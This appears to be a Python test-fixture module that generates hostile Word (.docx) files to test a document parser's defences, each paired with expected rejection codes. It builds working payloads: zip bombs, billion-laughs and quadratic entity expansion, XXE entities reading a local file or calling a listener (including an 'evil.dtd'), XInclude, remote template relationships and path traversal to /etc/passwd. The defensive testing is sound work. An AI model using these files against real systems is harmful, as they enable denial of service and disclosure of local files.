"""Word files that unpack without end, reach out of themselves, or are something else."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator

from tests.hostile.model import RESUME, Hostile

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
_RELS = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
BOMB = ("archive_bomb", "too_large", "damaged_docx", "parse_time", "parse_memory")


def document(body: str, head: str = "", entity: str = "") -> bytes:
    """The main part."""
    return f'<?xml version="1.0"?>{head}<w:document {_W}><w:body>{body}{entity}</w:body></w:document>'.encode()


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


WHOLE = "".join(paragraph(line) for line in RESUME.split("\n"))


def word(parts: dict[str, bytes], main: bytes | None = None) -> bytes:
    """Parts -> an archive with what Word needs around them."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _TYPES)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("word/document.xml", main or document(WHOLE))
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def _large(name: str, block: bytes, times: int, start: bytes = b"", end: bytes = b"") -> bytes:
    """An archive one member of which unpacks to ``block`` times ``times``."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _TYPES)
        archive.writestr("_rels/.rels", _RELS)
        if name != "word/document.xml":
            archive.writestr("word/document.xml", document(WHOLE))
        with archive.open(name, "w", force_zip64=True) as member:
            member.write(start)
            for _ in range(times):
                member.write(block)
            member.write(end)
    return out.getvalue()


def _lying(size: int) -> bytes:
    """The directory says the main part has ``size`` bytes; it has many more."""
    data = bytearray(_large("word/document.xml", b" " * 1_000_000, 20))
    real = (20_000_000).to_bytes(4, "little")
    return bytes(data.replace(real, size.to_bytes(4, "little")))


def word_files(canary: str, address: str) -> Iterator[Hostile]:
    """All of them. ``canary`` is a file and ``address`` a listener that must never be reached."""
    for name, data, codes in _files(canary, address):
        yield Hostile(name=name if "." in name else f"docx-{name}.docx", data=data, codes=codes)


def _files(canary: str, address: str) -> Iterator[tuple[str, bytes, tuple[str, ...]]]:
    head, tail = document("@").split(b"@")
    blank = b" " * 1_000_000
    yield "whitespace-1gb", _large("word/document.xml", blank, 1_000, head, tail), BOMB
    yield "paragraphs-million", _large("word/document.xml", b"<w:p/>" * 1_000, 1_000, head, tail), BOMB  # fmt: skip
    yield "paragraphs-ten-million", _large("word/document.xml", b"<w:p/>" * 1_000, 10_000, head, tail), BOMB  # fmt: skip
    yield "text-50mb", _large("word/document.xml", b"x" * 1_000_000, 50, head, tail), BOMB
    yield "image-300mb", _large("word/media/image1.png", b"\x00" * 1_000_000, 300), BOMB
    yield "depth-million", _large("word/document.xml", b"<w:sdt>" * 1_000, 1_000, head), BOMB
    yield "lying-sizes", _lying(900), BOMB
    yield "attributes-million", word({}, document("<w:p " + " ".join(f'w:a{n}="x"' for n in range(300_000)) + "/>")), ()  # fmt: skip
    yield "members-100000", word({f"word/media/{n}.x": b"" for n in range(20_000)}), BOMB
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
    yield "billion-laughs", word({}, document(paragraph("&l9;"), f"<!DOCTYPE w [{entities}]>")), ()
    yield "quadratic-entity", word({}, document(paragraph("&a;" * 50_000), f'<!DOCTYPE w [<!ENTITY a "{"x" * 50_000}">]>')), ()  # fmt: skip
    yield "xxe-file", word({}, document(paragraph("Jo &x; Doe") + WHOLE, f'<!DOCTYPE w [<!ENTITY x SYSTEM "file://{canary}">]>')), ()  # fmt: skip
    yield "xxe-network", word({}, document(paragraph("Jo &x; Doe") + WHOLE, f'<!DOCTYPE w [<!ENTITY x SYSTEM "{address}/xxe">]>')), ()  # fmt: skip
    yield "xxe-dtd", word({}, document(WHOLE, f'<!DOCTYPE w SYSTEM "{address}/evil.dtd">')), ()  # fmt: skip
    yield "xinclude", word({}, document(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{canary}" parse="text"/>' + WHOLE)), ()  # fmt: skip
    link = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    outside = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{link}/image" Target="{address}/a.png" TargetMode="External"/><Relationship Id="r2" Type="{link}/attachedTemplate" Target="{address}/t.dotm" TargetMode="External"/><Relationship Id="r3" Type="{link}/hyperlink" Target="file://{canary}" TargetMode="External"/></Relationships>'  # fmt: skip
    yield "external-relationships", word({"word/_rels/document.xml.rels": outside.encode()}), ()
    upward = outside.replace(f"{address}/a.png", "../../../../../../etc/passwd").replace(' TargetMode="External"', "")  # fmt: skip
    yield "relationships-upward", word({"word/_rels/document.xml.rels": upward.encode()}), ()
    yield "names-upward", word({"../../../../tmp/reportgen-evil": b"x", "/etc/evil": b"x"}), ()
    yield "docm-macros.docm", word({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(600)}), ()
    styles = f'<?xml version="1.0"?><w:styles {_W}><w:style w:type="paragraph" w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>'  # fmt: skip
    yield "styles-loop", word({"word/styles.xml": styles.encode()}, document('<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>Jo Doe</w:t></w:r></w:p>')), ()  # fmt: skip
    deep = "<w:tbl><w:tr><w:tc>" * 80 + WHOLE + "</w:tc></w:tr></w:tbl>" * 80
    yield "tables-nested", word({}, document(deep)), ()
    boxes = "<w:sdt><w:sdtContent>" * 120 + WHOLE + "</w:sdtContent></w:sdt>" * 120
    yield "wrappers-nested", word({}, document(boxes)), ()
    row = "<w:tr>" + "<w:tc><w:p/></w:tc>" * 5_000 + "</w:tr>"
    yield "cells-million", word({}, document("<w:tbl>" + row * 60 + "</w:tbl>")), ()
    yield "runs-quarter-million", word({}, document("<w:p>" + "<w:r><w:t>x</w:t></w:r>" * 250_000 + "</w:p>")), ()  # fmt: skip
    yield "utf16-part", word({}, document(WHOLE).decode().encode("utf-16")), ()
    yield "xml-nul", word({}, document(paragraph("Jo \x00 Doe"))), ("damaged_docx",)
    yield "not-xml", word({}, b"PK\x03\x04 nothing"), ("damaged_docx",)
    yield "pdf-named-docx.docx", b"%PDF-1.4\n%%EOF", ("damaged_pdf",)
    yield "zip-in-zip", word({"word/document.xml.zip": word({})}), ()
    whole = word({})
    yield "half.docx", whole[: len(whole) // 2], ("damaged_docx", "wrong_type")
    yield "spreadsheet.docx", _large("xl/workbook.xml", b"<a/>", 1).replace(b"word/document.xml", b"xord/document.xml"), ("wrong_type", "damaged_docx")  # fmt: skip
